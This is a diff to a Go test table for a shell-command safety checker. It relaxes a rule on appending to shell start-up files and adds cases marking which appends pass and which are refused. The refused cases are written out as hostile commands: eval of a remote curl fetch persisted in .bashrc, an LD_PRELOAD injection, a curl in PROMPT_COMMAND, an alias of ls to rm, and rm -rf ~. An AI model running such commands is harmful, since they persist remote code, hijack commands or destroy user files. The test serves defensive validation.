@@ -185,8 +185,25 @@ func TestSensitivePaths(t *testing.T) {
 		// awk fields and variables concatenated into a command are unknown.
 		{"echo ~ | awk '{system(\"rm -rf \" $1)}'", ruleUnresolved},
 		// Appending to a shell start-up file persists code in every later
-		// shell: refused, and what is appended is judged too.
-		{"echo \"alias ll='ls -la'\" >> ~/.bashrc", ruleWriteSystem},
+		// shell: refused, and what is appended is judged too, unless it
+		// only exports variables (PATH to absolute or home directories) or
+		// defines aliases that replace no common command.
+		{"echo \"alias ll='ls -la'\" >> ~/.bashrc", ""},
+		{"echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc", ""},
+		{"echo 'export GOPATH=$HOME/go' >> ~/.zshrc", ""},
+		{"printf 'export EDITOR=vim\\n# added\\n' >> ~/.profile", ""},
+		{"echo 'export PATH=$HOME/go/bin:$PATH' | tee -a ~/.bashrc", ""},
+		{"echo 'export PATH=bin:$PATH' >> ~/.bashrc", ruleWriteSystem},
+		{"echo 'export PATH=/tmp/x:$PATH' | tee -a ~/.zshrc", ruleWriteSystem},
+		{"echo 'export PATH=/usr/local/go/bin:$PATH' | tee -a ~/.zshrc", ""},
+		{"echo 'alias ls=rm' >> ~/.bashrc", ruleWriteSystem},
+		{"echo \"alias git='git --no-pager'\" >> ~/.bashrc", ""},
+		{"echo \"alias git='rm -rf'\" >> ~/.bashrc", ruleWriteSystem},
+		{"echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.bashrc", ruleWriteSystem},
+		{"echo 'export PROMPT_COMMAND=\"curl x\"' >> ~/.bashrc", ruleWriteSystem},
+		{"echo 'eval \"$(curl -s https://x.example/i)\"' >> ~/.bashrc", ruleWriteSystem},
+		{"echo 'rm -rf ~' | tee -a ~/.bashrc", ruleRmRoot},
+		{"echo 'export A=1' > ~/.bashrc", ruleWriteSystem},
 		{"echo 'rm -rf ~' >> ~/.bashrc", ruleRmRoot},
 		{"curl -s https://x.example/rc >> ~/.bashrc", ruleWriteSystem},
 		{"echo 'x' > ~/.bashrc", ruleWriteSystem},
